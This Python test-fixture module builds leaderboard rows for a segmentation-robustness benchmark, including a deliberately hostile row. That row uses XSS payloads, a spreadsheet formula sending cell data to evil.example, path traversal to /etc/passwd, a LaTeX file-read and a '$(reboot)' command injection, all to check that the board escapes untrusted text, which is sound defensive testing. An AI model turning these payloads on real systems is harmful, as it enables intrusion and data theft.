"""Boards to draw: the entries of this checkout, a table with everything in it, hostile text, and any number of rows."""

from __future__ import annotations

import copy
import random
from collections.abc import Sequence
from pathlib import Path
from typing import Any

from segbench.leaderboard import Board, Table
from segbench.protocol import LINF

ROOT = Path(__file__).resolve().parents[2]
RADII = (4.0, 8.0, 12.0)
METRICS = ("aacc", "miou")
LOSSES = ("mce_bal", "mce", "js")
CLASSES = ("background", "circle", "square", "triangle", "ring", "cross", "star", "moon")

HOSTILE = {
    "script": "<script>window.pwned = 1</script>",
    "handler": "<img src=x onerror='window.pwned = 1'>",
    "attribute": '" onmouseover="window.pwned = 1" x=\'',
    "breakout": "</script></style></title><script>window.pwned = 1</script>",
    "template": "{{ 7 * 7 }}{% raw %}${window.pwned = 1}",
    "override": "safe\u202egnp.exe\u2066 end",
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "url": "javascript:window.pwned=1",
    "long": "A" * 100_000,
    "marks": "Z" + "\u0335\u0321" * 400,
}


def row(model_id: str, scores: dict[str, tuple[float | None, float]], **changes: Any) -> dict[str, Any]:
    """A row without intervals, cost or history; ``scores``: (aAcc, mIoU) by view, ``clean`` and radii."""
    radii = [view for view in scores if view not in ("clean", "mean")]
    means = [sum(scores[view][k] or 0.0 for view in radii) / len(radii) for k in (0, 1)]
    values = {"clean": scores["clean"], "mean": (means[0], means[1])} | {view: scores[view] for view in radii}
    made: dict[str, Any] = {
        "id": model_id,
        "title": f"Model {model_id}",
        "protocol": "sea-v1",
        "dataset": "shapes",
        "num_classes": len(CLASSES),
        "method": "PIR-AT",
        "architecture": "upernet_convnext",
        "backbone": "ConvNeXt-mini",
        "parameters": 104744,
        "tier": "checked",
        "source": None,
        "extra_data": None,
        "initialisation": "random",
        "licence": "MIT",
        "training": {"eps_255": 8, "attack_steps": 5, "epochs": 50, "passes": 300},
        "paper": None,
        "weights": [{"label": "in this repository", "url": None}],
        "loadable": True,
        "entry_file": f"entries/sea-v1/shapes/{model_id}.json",
        "evidence_file": f"entries/sea-v1/shapes/{model_id}.parquet",
        "scores": {view: {"aacc": _score(pair[0]), "miou": _score(pair[1])} for view, pair in values.items()},
        "results": [_result(view, *scores[view]) for view in radii],
        "clean": {"aacc": scores["clean"][0], "macc": None, "miou": scores["clean"][1]},
        "flags": [],
        "unranked": None,
        "run": None,
        "official": True,
        "submitter": None,
        "date": "2026-11-22",
        "history": [],
        "external": [],
        "reproductions": [],
        "detail": None,
    }
    return made | changes


def _score(value: float | None) -> dict[str, Any] | None:
    return None if value is None else {"value": value, "interval": None, "best_known": value, "rank": None}


def _result(view: str, aacc: float | None, miou: float) -> dict[str, Any]:
    return {
        "strength": float(view),
        "aacc": aacc,
        "miou": miou,
        "miou_lower_bound": None,
        "interval": None,
        "per_loss": None,
        "best_known": {"aacc": aacc, "miou": miou, "by": []},
    }


def widen(made: dict[str, Any], width: float = 0.02) -> dict[str, Any]:
    """Gives every score an interval."""
    for view, pair in made["scores"].items():
        for score in pair.values():
            if score and view != "clean":
                score["interval"] = [max(0.0, score["value"] - width), min(1.0, score["value"] + width)]
    for result in made["results"]:
        pair = made["scores"][f"{result['strength']:g}"]
        result["interval"] = {metric: pair[metric]["interval"] for metric in METRICS}
    return made


def ranked(rows: Sequence[dict[str, Any]]) -> list[dict[str, Any]]:
    """Ranks by view and metric, shared where the intervals overlap; best first by the mean mIoU."""
    for view in {view for made in rows for view in made["scores"]}:
        for metric in METRICS:
            scores = [(made["scores"].get(view) or {}).get(metric) for made in rows]
            present = sorted((score for score in scores if score), key=lambda score: -score["value"])
            leader, place = None, 0
            for position, score in enumerate(present, 1):
                low = (leader["interval"] or [leader["value"]])[0] if leader else None
                if leader is None or (score["interval"] or [score["value"]] * 2)[1] < low or score["interval"] is None:
                    leader, place = score, position
                score["rank"] = place
    return sorted(rows, key=lambda made: -made["scores"]["mean"]["miou"]["value"] if made["scores"]["mean"] else 1)


def full_row(model_id: str = "at_everything_shapes") -> dict[str, Any]:
    """A row in which every field has a value."""
    made = widen(row(model_id, {"clean": (0.853, 0.523), "4": (0.79, 0.375), "8": (0.687, 0.233), "12": (0.492, 0.12)}))
    generator = random.Random(model_id)
    views = ["clean", "4", "8", "12"]
    made |= {
        "title": "UPerNet ConvNeXt-mini, adversarial training at 8/255",
        "method": "AT",
        "tier": "reproduced",
        "extra_data": "ImageNet-1k (backbone)",
        "submitter": "somebody",
        "paper": {
            "title": "Towards Reliable Evaluation and Fast Training of Robust Semantic Segmentation Models",
            "authors": ["Francesco Croce", "Naman D. Singh", "Matthias Hein"],
            "url": "https://arxiv.org/abs/2306.12941",
            "venue": "European Conference on Computer Vision (ECCV)",
            "year": 2024,
            "bibtex": None,
        },
        "weights": [{"label": "Hugging Face user/repo", "url": "https://huggingface.co/user/repo"}],
        "flags": [
            {
                "name": "deterministic",
                "level": "ok",
                "value": 0.0,
                "message": "Largest difference between the logits of two passes over the same images.",
                "explanation": "A model that gives another answer each time hides its gradients from an attack.",
            },
            {
                "name": "zero_gradients",
                "level": "note",
                "value": 0.03,
                "message": "Share of attacks on an image in which some input gradient was zero everywhere.",
                "explanation": "An attack that follows gradients stands still where they are zero.",
            },
            {
                "name": "sea_overestimates",
                "level": "warning",
                "value": 0.013,
                "message": "An external attack leaves 1.3 points less aAcc at 8/255 than the protocol.",
                "explanation": "The protocol is too weak for this model: read best known instead.",
            },
        ],
        "run": {
            "seconds": 101.956,
            "device": "cpu, 2 cores",
            "forward_passes": 88416,
            "backward_passes": 87200,
            "peak_memory_bytes": 988262400,
            "precision": "fp32",
            "compiled": False,
            "batch_size": None,
            "gpu_hours": 0.5,
            "images_per_second": 1722.5,
            "energy_joules": 3.6e6,
            "command": "segbench evaluate --model at_everything_shapes --dataset shapes --eps 4 8 12",
            "versions": {"python": "3.11.7", "segbench": "0.1.0", "torch": "2.6.0"},
            "git_commit": "fb39a388cf3e6a1bbd2159464bf4e95b30ad5c22",
        },
        "history": [{"date": "2026-11-22", "text": "Evaluated."}, {"date": "2026-12-01", "text": "Reproduced."}],
        "external": [
            {
                "name": "alma-prox",
                "author": "Jérôme Rony",
                "url": "https://arxiv.org/abs/2206.07179",
                "description": "Proximal splitting, 500 iterations.",
                "date": "2026-12-02",
                "results": [{"strength": 8.0, "aacc": 0.674, "miou": 0.228}],
            }
        ],
        "reproductions": [
            {
                "name": "university",
                "by": "A. Reader",
                "date": "2026-12-01",
                "images": 20,
                "device": "NVIDIA H100",
                "radii": [4.0, 8.0, 12.0],
                "difference": 0.0021,
                "agrees": True,
            }
        ],
        "detail": {
            "iou": {
                view: [
                    None
                    if k == 7
                    else round(max(0.0, made["scores"][view]["miou"]["value"] + generator.gauss(0, 0.15)), 4)
                    for k in range(len(CLASSES))
                ]
                for view in views
            },
            "histogram": {view: _histogram(made["scores"][view]["aacc"]["value"], generator) for view in views},
            "images": 32,
        },
    }
    for result in made["results"]:
        result["miou_lower_bound"] = round(result["miou"] - 0.01, 4)
        result["per_loss"] = {
            loss: {
                "aacc": result["aacc"] + 0.01 * k,
                "miou": result["miou"] + 0.02 * k,
                "won_aacc": share,
                "won_miou": share,
            }
            for k, (loss, share) in enumerate(zip(LOSSES, (0.6875, 0.0, 0.3125), strict=True))
        }
    at8, pair = made["results"][1], made["scores"]["8"]
    at8["best_known"] = {"aacc": 0.674, "miou": 0.228, "by": ["alma-prox"]}
    pair["aacc"]["best_known"], pair["miou"]["best_known"] = 0.674, 0.228
    return made


def _histogram(centre: float, generator: random.Random) -> list[int]:
    bins = [0] * 20
    for _ in range(32):
        bins[min(19, max(0, int(20 * generator.gauss(centre, 0.1))))] += 1
    return bins


def small_board() -> Board:
    """Two data sets, nine rows: all tiers, shared ranks, missing values, a radius that only some have."""
    table = [
        full_row(),
        widen(row("pirat_b_shapes", {"clean": (0.84, 0.50), "4": (0.78, 0.37), "8": (0.69, 0.24), "12": (0.47, 0.11)})),
        widen(
            row(
                "at_c_shapes",
                {"clean": (0.90, 0.66), "4": (0.60, 0.25), "8": (0.30, 0.10), "12": (0.10, 0.02)},
                method="AT",
                architecture="segmenter_vit",
                backbone="ViT-S/16",
                parameters=26_420_000,
                extra_data="COCO",
                tier="reproduced",
            )
        ),
        row(
            "clean_d_shapes",
            {"clean": (None, 0.70), "4": (0.30, 0.08), "8": (0.08, 0.018), "12": (0.018, 0.004)},
            method="clean",
            architecture=None,
            backbone=None,
            parameters=None,
            tier="reported",
            source="arXiv 2306.12941v2, Table 2",
            training={"eps_255": None, "attack_steps": None, "epochs": None, "passes": None},
            weights=[],
            loadable=False,
            evidence_file=None,
            initialisation=None,
            licence=None,
        ),
        row(
            "pirat_e_shapes",
            {"clean": (0.80, 0.45), "4": (0.74, 0.36), "8": (0.65, 0.21), "12": (0.52, 0.19)},
            tier="reported",
            source="arXiv 2306.12941v2, Table 3",
            parameters=81_820_000,
            evidence_file=None,
        ),
    ]
    other = [
        row(
            f"{name}_camvid",
            {
                "clean": (0.9, 0.6 + k / 100),
                "0.25": (0.8, 0.5),
                "4": (0.7, 0.3),
                "8": (0.5, 0.2),
                "12": (0.3, 0.1 - k / 50),
            },
            dataset="camvid/small",
            entry_file=f"entries/sea-v1/camvid-small/{name}_camvid.json",
            evidence_file=None,
        )
        for k, name in enumerate(("first", "second", "third"))
    ]
    return Board([table_of(table), table_of(other, "camvid/small", radii=(0.25, *RADII))])


def table_of(
    rows: Sequence[dict[str, Any]],
    dataset: str = "shapes",
    names: Sequence[str] = CLASSES,
    radii: Sequence[float] = RADII,
) -> Table:
    """A table of sea-v1 with all views of these radii."""
    views = ["clean", "mean", *(f"{radius:g}" for radius in radii)]
    return Table("sea-v1", dataset, LINF.fields(), views, list(radii), list(names), ranked(rows))


def hostile_row() -> dict[str, Any]:
    """A row in which every text that a stranger writes attacks the reader."""
    made = full_row("hostile")
    text = HOSTILE
    made |= {
        "id": "../../<b>x</b>\"'",
        "title": text["long"],
        "method": text["formula"],
        "architecture": text["breakout"],
        "backbone": text["handler"],
        "source": text["script"],
        "extra_data": "+1-2;" + text["marks"],
        "licence": "@SUM(1)",
        "submitter": text["attribute"],
        "date": "-2+3",
        "tier": "reported",
        "paper": {
            "title": text["template"] + text["handler"],
            "authors": [text["script"], text["override"]],
            "url": text["url"],
            "venue": text["breakout"],
            "year": 2024,
            "bibtex": "@article{x, title = {\\input{/etc/passwd}}}",
        },
        "weights": [
            {"label": text["handler"], "url": "data:text/html,<script>window.pwned=1</script>"},
            {"label": text["attribute"], "url": 'https://ok.example/" onclick="window.pwned=1'},
            {"label": "user@host", "url": "https://trusted.example@evil.example/"},
        ],
        "entry_file": "../../../etc/passwd",
        "evidence_file": "/etc/passwd",
        "history": [{"date": text["script"], "text": text["handler"]}],
    }
    made["flags"] = [
        {
            "name": text["handler"],
            "level": "warning",
            "value": None,
            "message": text["script"],
            "explanation": text["breakout"],
        }
    ]
    made["external"] = [
        {
            "name": text["handler"],
            "author": text["script"],
            "url": "http://plain.example/",
            "description": text["attribute"],
            "date": text["formula"],
            "results": [{"strength": 8.0, "aacc": 0.1, "miou": 0.1}],
        }
    ]
    made["run"] |= {
        "device": text["script"],
        "command": "$(reboot) " + text["breakout"],
        "versions": {text["handler"]: "1"},
    }
    made["reproductions"][0] |= {"name": text["script"], "by": text["handler"], "device": text["attribute"]}
    made["results"][0]["per_loss"] = {text["handler"]: made["results"][0]["per_loss"]["mce"]}
    return made


def hostile_board() -> Board:
    """One table, three rows, one of them hostile; hostile class names."""
    rows = [full_row(), hostile_row(), small_board().tables[0].rows[1]]
    names = [HOSTILE["script"], *CLASSES[1:]]
    return Board([table_of(rows, names=names)])


def many(count: int) -> Board:
    """``count`` rows with everything in them, on one data set of 21 classes."""
    generator = random.Random(count)
    rows = []
    names = [f"class {k}" for k in range(21)]
    base = full_row()
    for k in range(count):
        clean = generator.uniform(0.4, 0.95)
        falls = sorted((clean * generator.uniform(0.02, 1) for _ in RADII), reverse=True)
        scores: dict[str, tuple[float | None, float]] = {"clean": (clean, clean * 0.8)}
        scores |= {f"{eps:g}": (fall, fall * 0.6) for eps, fall in zip(RADII, falls, strict=True)}
        made = widen(row(f"model_{k:04d}_voc", scores, dataset="pascal_voc", num_classes=21), 0.005)
        for field in ("paper", "flags", "run", "history", "weights"):
            made[field] = copy.deepcopy(base[field])
        made |= {
            "title": f"UPerNet ConvNeXt, variant {k}",
            "method": generator.choice(["AT", "PIR-AT", "DDC-AT", "clean", "TRADES"]),
            "architecture": generator.choice(["upernet_convnext", "segmenter_vit", "pspnet"]),
            "backbone": generator.choice(["ConvNeXt-T+ConvStem", "ConvNeXt-S+ConvStem", "ViT-S/16", "ResNet-50"]),
            "parameters": generator.randrange(5_000_000, 300_000_000),
            "tier": generator.choice(["reported", "checked", "reproduced"]),
            "extra_data": generator.choice([None, "ImageNet-1k (backbone)", "COCO"]),
            "entry_file": f"entries/sea-v1/pascal_voc/model_{k:04d}_voc.json",
            "evidence_file": None,
            "detail": {
                "iou": {view: [round(generator.random(), 4) for _ in names] for view in ("clean", "4", "8", "12")},
                "histogram": {
                    view: [generator.randrange(100) for _ in range(20)] for view in ("clean", "4", "8", "12")
                },
                "images": 1449,
            },
        }
        for result, filled in zip(made["results"], base["results"], strict=True):
            result["per_loss"] = copy.deepcopy(filled["per_loss"])
        rows.append(made)
    return Board([table_of(rows, "pascal_voc", names)])
